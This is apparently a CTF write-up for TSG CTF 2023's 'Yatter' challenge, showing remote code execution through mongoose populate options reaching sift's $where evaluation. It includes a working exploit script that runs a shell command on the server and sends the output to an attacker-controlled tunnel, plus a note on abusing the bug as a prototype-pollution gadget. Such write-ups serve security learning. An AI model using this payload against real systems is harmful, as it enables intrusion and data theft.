# TSG CTF 2023 Yatter Writeup (en) ###### tags: `CTF` 日本語: https://hackmd.io/@n4o847/S1_MNNwXT ## Challenge Overview Opening the link, you will access a social networking site called "Yatter," similar to Twitter. Registered users can create posts called "Yeets," follow other users, and like other users' Yeets. ![Yatter](https://i.imgur.com/C4EPeud.png) Upon reading the distributed files, it appears that the structure of this site is roughly as follows: - Used Libraries - bcrypt - ejs - express - express-session - mongoose - Models - `User` - `username` - `password` - `following` - `followers` - `posts` (virtual) - `Post` - `author` - `content` - `likes` - Pages - `/` Timeline - `/register` Registration Page - `/login` Login Page - `/@:username` User Profile - `/@:username/:postId` Post Details - Actions - `/register` Register - `/login` Log in - `/logout` Log out - `/post` Create a post - `/users/:userId/follow` Follow a user - `/users/:userId/unfollow` Unfollow a user - `/posts/:postId/like` Like a post - `/posts/:postId/unlike` Unlike a post The purpose of this challenge is to read a secret text file (the name is unknown) located on theserver and obtain the flag. ## Vulnerability When opening a user profile page, you notice that the tabs can be switched: |`/@:username`|`/@:username?tab=following`|`/@:username?tab=followers`| |:-:|:-:|:-:| |![Yeets](https://i.imgur.com/FyMKH7w.png)|![Following](https://i.imgur.com/0qLd3Zw.png)|![Followers](https://i.imgur.com/PP1UWje.png)| This feature is implemented with the following code. ```js app.get("/@:username", async (req, res) => { const { username } = req.params; const tab = req.query.tab ?? "posts"; const user = await User.findOne({ username }) .populate(tab) .exec(); const userId = req.session.userId; const me = await User.findById(userId); res.render("user", { me, user, tab }); }); ``` The `User` model has the `following` and `followers` fields, which are arrays of references to other `User`s, and the `posts` field, which is a virtual field. To materialize these fields,[mongoose](https://www.npmjs.com/package/mongoose)'s [population](https://mongoosejs.com/docs/populate.html) feature is used. Here, it is known that in express, a `req.query` can accept not only strings, but also arrays and objects. Additionally, mongoose's `populate` allows variousoptions to be specifed as arguments. Given these facts, this portion of the code appears to be quite suspicious. Indeed, when looking at the documentation for [`Model.populate`](https://mongoosejs.com/docs/api/model.html#Model.populate()), it becomes evident that JavaScript code can be executed on MongoDB as shown below: ```js await User.findOne({ username }) .populate({ path: "author", match: { $where: `...`, }, }) .exec(); ``` However, it seems that the JavaScript interpreter in MongoDB has various restrictions that make it difficult to execute arbitrary code. ... Is it really so? --- From here, it might require a bit of patience. In conclusion, there is a vulnerability in mongoose's `populate` function that allows for arbitrary code execution, and that is what we will be looking for. Let's trace how `populate` is invoked within mongoose. [`Model.populate`](https://github.com/Automattic/mongoose/blob/7.6.3/lib/model.js#L4261-L4282) calls `_populate`, which in turn calls `populate` for each path, which then calls `_assign`, which finally calls `assignVals`. In `assignVals`, you will notice [a quite suspicious snippet](https://github.com/Automattic/mongoose/blob/7.6.3/lib/helpers/populate/assignVals.js#L97-L99): ```js valueToSet = Array.isArray(rawIds[i]) ? rawIds[i].filter(sift(o.match[i])) : [rawIds[i]].filter(sift(o.match[i]))[0];``` It seems that when the `match` property in the options passed to `populate` is an array, a function from the [sift](https://www.npmjs.com/package/sift) library is invoked. This sift library converts MongoDB-like queries into filter functions, however, it handles them in JavaScript itself instead of sending BSON data to MongoDB, causing different behavior. Reading sift's [`$where` implementation](https://github.com/crcn/sift.js/blob/225980417e49d3d1124ef7338ee8673b8da836ff/src/operations.ts#L393-L411), you cansee that it dynamically generates functions using the `Function` constructor: ```js export const $where = ( params: string | Function, ownerQuery: Query<any>, options: Options ) => { let test; if (isFunction(params)) { test = params; } else if (!process.env.CSP_ENABLED) { test = new Function("obj", "return " + params); } else { throw new Error( `In CSP mode, sift does not support strings in "$where" condition` ); } return new EqualsOperation(b => test.bind(b)(b), ownerQuery, options); }; ``` Exactly, by passing code like `match: [{ $where: ... }]`, arbitrary code can be executed! Note that the code is executed within the MongoDB internal JavaScript interpreter before being executed with `Function`, so you need to distinguish where the code is executed using constructs like `typeof process === "undefined" ? true : ...`. ## Solution Let's assume there is a registered user with the username `@a`. ```js const express = require("express"); const localtunnel = require("localtunnel"); async function main() { const remoteHost = process.argv[2] ?? "localhost"; const remotePort = parseInt(process.argv[3] ?? "18080", 10); const localPort = 3000; const app = express(); app.get("/", (req, res) => { console.log(req.query.flag); res.send("ok"); }); const server = await new Promise((resolve) => { const server = app.listen(localPort, () => resolve(server)); }); const username = `a`; const tunnel = await localtunnel({ port: localPort }); const payload = `typeof process === "undefined" ? true : fetch("${tunnel.url}/?flag=" + process.mainModule.require("child_process").execSync("cat flag-*.txt"))`; const params = new URLSearchParams({ "tab[path]": "posts", "tab[match][][$where]": payload, }); await fetch( `http://${remoteHost}:${remotePort}/@${username}?${params}`, ); tunnel.close(); server.close(); } main(); ``` ## Further Exploitation This vulnerability occurs only when arbitrary objects are passed to populate. However, with prototypepollution, arbitrary code execution might occur through other means as well. In other words, this vulnerability can be utilized as a prototype pollution gadget. For instance, the [`Model.insertMany`](https://mongoosejs.com/docs/api/model.html#Model.insertMany()) function, which is used for bulk data insertion, takes the populate option as aparameter. Inside `insertMany`, there is [a conditional check like this](https://github.com/Automattic/mongoose/blob/7.6.3/lib/model.js#L3242): ```js if (options.populate != null) { ``` Consequently, even if the `populate` option is not explicitly specified in theprogram, if `Object.prototype` is polluted, arbitrary codeexecution becomes possible.